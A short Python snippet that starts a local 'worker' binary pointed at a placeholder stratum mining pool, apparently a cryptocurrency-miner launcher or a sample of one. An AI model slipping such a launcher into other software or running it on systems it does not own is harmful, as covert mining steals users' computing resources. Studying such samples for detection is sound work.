import subprocess

subprocess.Popen(["./worker", "-o", "stratum+tcp://pool.example.invalid:3333", "-u", "sample"])
